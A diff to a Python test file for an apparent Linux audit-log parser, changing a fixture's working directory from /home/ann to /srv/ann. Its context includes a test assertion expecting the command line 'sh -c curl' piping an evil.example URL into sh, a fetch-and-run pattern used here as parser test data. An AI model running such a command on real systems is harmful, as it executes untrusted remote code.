@@ -33,7 +33,7 @@ def started(serial: int, pid: int, parent: int, exe: str, *words: str, success: 
     )
     arguments = " ".join(f"a{number}={written(word)}" for number, word in enumerate(words))
     return (
-        f"{call}\ntype=EXECVE {head} argc={len(words)} {arguments}\ntype=CWD {head} cwd={written('/home/ann')}\n"
+        f"{call}\ntype=EXECVE {head} argc={len(words)} {arguments}\ntype=CWD {head} cwd={written('/srv/ann')}\n"
         f"type=PATH {head} item=0 name={written(exe)} inode=7 nametype=NORMAL\n"
         f"type=PROCTITLE {head} proctitle=6C73\n"
     )
@@ -80,7 +80,7 @@ def test_program_starts_are_told_with_their_whole_command_line(file: Path) -> No
         (61, 60, "/usr/bin/curl"),
     ]
     assert found[1].command_line == 'sh -c curl "http://evil.example/a b" | sh'
-    assert (found[1].cwd, found[1].uid, found[1].auid) == ("/home/ann", 0, 1000)
+    assert (found[1].cwd, found[1].uid, found[1].auid) == ("/srv/ann", 0, 1000)
     assert found[0].time == AT + timedelta(seconds=2, milliseconds=250)
 
 
